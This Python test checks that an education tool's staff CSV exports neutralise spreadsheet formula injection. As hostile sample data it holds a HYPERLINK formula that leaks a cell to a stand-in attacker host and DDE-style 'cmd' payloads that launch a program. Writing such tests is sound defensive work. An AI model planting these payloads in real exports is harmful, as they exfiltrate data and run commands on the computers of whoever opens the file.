"""CSV formula injection is neutralised in every export.

Every staff GET route without ids is fetched; each one that answers text/csv is an export.
A student whose name, LMS id and email are spreadsheet formulas launches and submits first;
no cell of any export may then start with = + - @ tab or CR (a spreadsheet would run it).
"""
from __future__ import annotations

import csv
import io
import re

from tests.lti_tool.test_isolation import STAFF_ROUTE, audience
from tests.support.platform import INSTRUCTOR

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {"name": '=HYPERLINK("https://evil.example/?x="&A1,"Click")', "sub": "+cmd|' /C calc'!A0",
           "email": "@SUM(1+1)*cmd|' /C calc'!A0"}


def test_no_export_cell_can_run_as_a_formula(app, client, platform):
    learner, _, _ = platform.launch(client, sub=HOSTILE["sub"],
                                    claims_overrides={"name": HOSTILE["name"], "email": HOSTILE["email"]})
    assert learner.status_code == 303
    url = learner.headers["Location"]
    attempt_id = re.search(r"/attempt/(\d+)", url).group(1)
    token = re.search(r"lt=([^&]+)", url).group(1)
    assert client.post(f"/attempt/{attempt_id}/submit", data={"lt": token}).status_code == 303
    staff, _, _ = platform.launch(client, sub="teacher", roles=(INSTRUCTOR,))
    staff_token = re.search(r"lt=([^&]+)", staff.headers["Location"]).group(1)

    exports = []
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.arguments or audience(rule.endpoint) != STAFF_ROUTE:
            continue
        resp = client.get(f"{rule.rule}?lt={staff_token}")
        if resp.status_code == 200 and resp.mimetype == "text/csv":
            exports.append((rule.rule, resp.get_data(as_text=True)))
    assert exports, "no CSV export found among the staff routes"
    found_student = False
    for path, body in exports:
        for row in csv.reader(io.StringIO(body)):
            for cell in row:
                assert not cell.startswith(FORMULA_START), f"{path}: formula cell {cell!r}"
                found_student |= "HYPERLINK" in cell or "calc" in cell
    assert found_student, "the hostile student should appear (neutralised) in the results export"
